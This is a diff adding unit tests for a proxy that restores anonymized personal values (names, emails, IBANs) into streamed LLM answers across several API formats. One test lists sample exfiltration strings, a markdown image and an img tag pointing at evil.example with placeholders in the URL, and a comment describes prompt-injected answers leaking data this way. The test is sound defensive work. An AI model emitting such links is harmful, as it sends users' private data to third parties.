@@ -334,3 +334,86 @@ def test_gemini_web_frames_are_restored_with_new_lengths_and_total() -> None:
     plain = answer("Geen plaatshouder hier.", "c_1", "nl").encode()
     s = GeminiWebRestorer(restorer())
     assert s.feed(plain) + s.end() == plain
+
+
+# --- found in review (issue 15) ------------------------------------------------------------
+
+
+def test_json_patch_ops_are_channels_by_their_path_and_a_status_op_is_left_alone() -> None:
+    ops = [
+        '{"p":"/message/content/parts/0","o":"append","v":"Result: ["}',
+        '{"p":"/message/status","o":"replace","v":"finished_successfully"}',
+    ]
+    out = run_sse([f"event: delta\ndata: {op}\n\n" for op in ops]).decode()
+    datas = [json.loads(line[6:]) for line in out.splitlines() if line.startswith("data: ")]
+    assert datas[-1] == {"p": "/message/status", "o": "replace", "v": "finished_successfully"}
+    appended = "".join(d["v"] for d in datas if d["p"] == "/message/content/parts/0")
+    assert appended == "Result: ["  # the held "[" went out first, as an append of its own
+
+
+def test_a_batch_that_finishes_a_placeholder_continues_the_shorthand_channel() -> None:
+    events = [
+        '{"p":"/message/content/parts/0","o":"append","v":"Beste "}',
+        '{"v":"[PER"}',
+        '{"p":"","o":"patch","v":[{"p":"/message/content/parts/0","o":"append","v":"SON_1]."},'
+        '{"p":"/message/status","o":"replace","v":"finished_successfully"}]}',
+    ]
+    out = run_sse([f"event: delta\ndata: {e}\n\n" for e in events]).decode()
+    text = ""
+    for line in out.splitlines():
+        if line.startswith("data: "):
+            d = json.loads(line[6:])
+            ops = d["v"] if isinstance(d.get("v"), list) else [d]
+            text += "".join(o["v"] for o in ops if o.get("p", "/message/content/parts/0").endswith("parts/0"))
+    assert text == "Beste Jan de Vries."
+
+
+def test_a_lone_surrogate_in_a_restored_string_is_escaped_not_fatal() -> None:
+    events = [openai_chat("Hi [PER"), 'data: {"choices":[{"index":0,"delta":{"content":"SON_1] \\ud83d"}}]}\n\n']
+    out = run_sse([*events, OPENAI_END])
+    assert sse_texts(out, openai_text) == "Hi Jan de Vries \ud83d"
+
+
+def test_lines_end_at_line_feeds_only() -> None:
+    line = json.dumps({"response": "a\u2028b \x85 [PERSON_1]"}, ensure_ascii=False) + "\n"
+    s = LineRestorer(restorer())
+    out = s.feed(line.encode()) + s.end()
+    assert json.loads(out.decode())["response"] == "a\u2028b \x85 Jan de Vries"
+
+
+def test_a_keepalive_between_the_halves_does_not_break_the_placeholder() -> None:
+    keep = 'event: keepalive\ndata: {"type":"keepalive","sequence_number":4}\n\n'
+    out = run_sse([responses("Beste [PER"), keep, responses("SON_1],"), RESPONSES_END])
+    assert sse_texts(out, responses_text) == "Beste Jan de Vries,"
+
+
+def test_a_plain_field_named_arguments_is_not_treated_as_json() -> None:
+    body = json.dumps({"arguments": "Aan [PERSON_2]"}).encode()
+    assert json.loads(restore_document(restorer(), body))["arguments"] == "Aan " + VALUES["[PERSON_2]"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/collect?q=[EMAIL_ADDRESS_1])",
+        '<img src="https://evil.example/p/[PERSON_1]">',
+        "zie www.evil.example/[IBAN_CODE_12]",
+    ],
+)
+def test_a_value_is_never_put_back_inside_a_url(text: str) -> None:
+    # A prompt-injected answer could carry a value to another site in a link or image the app loads.
+    for cut in range(len(text) + 1):
+        out = run_sse([openai_chat(text[:cut]), openai_chat(text[cut:]), OPENAI_END])
+        assert sse_texts(out, openai_text) == text, cut
+    assert restore_document(restorer(), json.dumps({"t": text}).encode()) == json.dumps({"t": text}).encode()
+
+
+def test_a_value_next_to_a_url_is_put_back() -> None:
+    text = "Zie https://example.org/info en mail [EMAIL_ADDRESS_1] (mailto:[EMAIL_ADDRESS_1])"
+    out = run_sse([openai_chat(text), OPENAI_END])
+    assert sse_texts(out, openai_text) == text.replace("[EMAIL_ADDRESS_1]", VALUES["[EMAIL_ADDRESS_1]"])
+
+
+def test_a_byte_order_mark_before_the_first_event_is_kept_and_the_event_restored() -> None:
+    out = run_sse(["\ufeff" + openai_chat("Hi [PERSON_1]"), OPENAI_END])
+    assert out.startswith("\ufeff".encode()) and b"Jan de Vries" in out
